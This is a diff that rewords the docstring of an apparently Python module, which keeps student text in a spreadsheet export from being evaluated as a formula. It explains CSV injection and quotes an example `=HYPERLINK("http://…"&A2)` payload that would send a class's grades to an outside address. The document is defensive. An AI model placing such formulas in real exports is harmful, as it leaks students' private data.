@@ -1,7 +1,7 @@
-"""What a student wrote, as a spreadsheet's cell: inert, and otherwise unharmed.
+"""What a student wrote, as a spreadsheet's cell: not evaluated, and otherwise unchanged.
 
-Spreadsheets take a cell for a formula that starts with `=`, `+`, `-` or `@`, or with a tab or a line end before one
-(OWASP, "CSV Injection"). `=HYPERLINK("http://…"&A2)` as a name would hand a class's grades to whoever waits there.
+Spreadsheets read a cell as a formula if it starts with `=`, `+`, `-` or `@`, or with a tab or a line end before one
+(OWASP, "CSV Injection"). `=HYPERLINK("http://…"&A2)` as a name would send a class's grades to that address.
 """
 
 from __future__ import annotations
